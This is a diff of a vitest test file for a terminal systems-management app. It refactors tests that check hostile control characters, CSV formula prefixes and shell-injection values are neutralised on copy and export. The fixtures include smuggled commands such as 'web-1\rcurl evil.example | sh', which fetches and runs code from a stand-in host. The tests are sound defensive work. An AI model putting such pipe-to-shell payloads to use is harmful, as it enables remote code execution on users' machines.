@@ -6,7 +6,7 @@ import { describe, expect, test } from 'vitest';
 import { aHome, open, programPath, runWithoutTerminalIn } from '../support/program.ts';
 import { aService, aSystem, onRequest, systemsCalled } from '../support/service.ts';
 import { aSmallDisk, canMount, fillBut } from '../support/small-disk.ts';
-import { aUser, environmentFor, row, userAt } from '../support/user.ts';
+import { aUserIn, environmentFor, row, userAt } from '../support/user.ts';
 
 /** An 8-bit CSI that sets the title, an 8-bit OSC, DEL, a direction, a mark of format. */
 const hostile = 'web\u009b21t\u009d0;owned\u009c\u007f\u202e\u200b';
@@ -50,30 +50,21 @@ test('N6: a cell of the CSV that shows nothing before = + - @ is text', async ()
 test('N5, N6: exported files and what is copied hold them made visible, and one line for each name', async () => {
   const service = await aHostileService();
   const home = aHome();
-  const user = aUser(service, { home });
-  await user.opens('Northwind');
+  const user = await aUserIn('Northwind', service, { home });
   await user.goesTo('curl');
-  user.presses('copy: name, id');
-  await user.sees(row('▌', 'name'));
-  user.presses('copy it');
-  await user.sees('Copied through your terminal: web-1␍curl');
+  await user.presses('copy: name, id').sees(row('▌', 'name'));
+  await user.presses('copy it').sees('Copied through your terminal: web-1␍curl');
   expect(copied(user.terminal.raw())).toEqual(['web-1␍curl evil.example | sh␊']);
-  user.presses('mark all matching systems');
-  await user.sees('2 marked');
-  user.presses('copy: name, id');
-  await user.sees('names of the 2 marked');
-  user.pressesKey('down', 'down', 'down', 'down');
-  await user.sees(row('▌', 'names of the 2 marked'));
-  user.presses('copy it');
-  await user.sees('Copied through your terminal: 2 lines');
+  await user.presses('mark all matching systems').sees('2 marked');
+  await user.presses('copy: name, id').sees('names of the 2 marked');
+  await user.pressesKey('down', 'down', 'down', 'down').sees(row('▌', 'names of the 2 marked'));
+  await user.presses('copy it').sees('Copied through your terminal: 2 lines');
   const names = copied(user.terminal.raw()).at(-1) ?? '';
   expect(names.split('\n')).toHaveLength(3);
   expect(names).not.toMatch(/[\r\u007f-\u009f\u200b\u202e]/);
 
-  user.presses('export to CSV and JSON');
-  await user.sees('marked systems: 2 systems');
-  user.presses('write marked systems');
-  await user.sees('Written:');
+  await user.presses('export to CSV and JSON').sees('marked systems: 2 systems');
+  await user.presses('write marked systems').sees('Written:');
   const files = readdirSync(home.path).filter((name) => name.startsWith('rollcall-systems-'));
   expect(files).toHaveLength(2);
   for (const file of files) expect(readFileSync(join(home.path, file), 'utf8')).not.toMatch(unsafe);
@@ -88,14 +79,11 @@ test('N6: a secret with characters that a shell acts on is not copied, and that 
       body: JSON.stringify({ id: 7, description: 'tills', key: 'abc\rcurl evil.example' }),
     })),
   });
-  const user = aUser(service);
-  await user.opens('Northwind');
-  user.presses('create an enrolment key');
-  await user.sees('description');
+  const user = await aUserIn('Northwind', service);
+  await user.presses('create an enrolment key').sees('description');
   user.types('tills');
   await user.rests();
-  user.presses('create the key');
-  await user.sees('Enrolment key created');
+  await user.presses('create the key').sees('Enrolment key created');
   user.presses('copy the secret');
   await user.sees('Not copied: the secret holds control or invisible characters. v shows it.');
   expect(copied(user.terminal.raw())).toEqual([]);
@@ -118,14 +106,12 @@ test('N11: where not even what is half can be removed, that is said, and no seco
     fs.writeSync = (file, bytes, ...more) => (bytes.length > 20_000 ? fail('ENOSPC') : writeSync(file, bytes, ...more));
     fs.rmSync = (path, ...more) => (path.includes('rollcall-systems') ? fail('EROFS') : rmSync(path, ...more));
     syncBuiltinESMExports();`;
-  const user = aUser(service, {
+  const user = await aUserIn('Northwind', service, {
     home,
     env: { NODE_OPTIONS: `--import data:text/javascript,${encodeURIComponent(disk)}` },
   });
-  await user.opens('Northwind');
   await user.sees('200 systems');
-  user.presses('export to CSV and JSON');
-  await user.sees('shown systems: 200 systems');
+  await user.presses('export to CSV and JSON').sees('shown systems: 200 systems');
   user.presses('write shown systems');
   await user.sees(/Not exported: writing (CSV|JSON) failed \(ENOSPC\)\. A part is left: remove it\./);
   expect(readdirSync(home.path).some((name) => name.startsWith('rollcall-systems'))).toBe(true);
@@ -137,10 +123,8 @@ describe.runIf(canMount)('N11: on a disk on which little fits', () => {
     'with %i kB left, an export goes beside the records, whole, and none is left there',
     async (left) => {
       const { home, user, disk } = await aUserOnASmallDisk(left);
-      user.presses('export to CSV and JSON');
-      await user.sees('shown systems: 200 systems');
-      user.presses('write shown systems');
-      await user.sees('Written:');
+      await user.presses('export to CSV and JSON').sees('shown systems: 200 systems');
+      await user.presses('write shown systems').sees('Written:');
       expect(readdirSync(disk)).toEqual(['filling']);
       const files = readdirSync(home.runsFolder);
       expect(files).toHaveLength(2);
@@ -152,14 +136,11 @@ describe.runIf(canMount)('N11: on a disk on which little fits', () => {
 
   test('where neither folder has room it is said which file failed and why, and no part is left in either', async () => {
     const { home, user, disk } = await aUserOnASmallDisk(40, 'state');
-    user.presses('export to CSV and JSON');
-    await user.sees('shown systems: 200 systems');
-    user.presses('write shown systems');
-    await user.sees('Not exported: writing JSON failed (ENOSPC). No part is left.');
+    await user.presses('export to CSV and JSON').sees('shown systems: 200 systems');
+    await user.presses('write shown systems').sees('Not exported: writing JSON failed (ENOSPC). No part is left.');
     expect(readdirSync(disk).sort()).toEqual(['filling', 'state']);
     expect(home.filesWith('"hostname": "web-1"')).toEqual([]);
-    user.presses('move down');
-    await user.sees(row('▌', 'web-2'));
+    await user.presses('move down').sees(row('▌', 'web-2'));
   });
 });
 
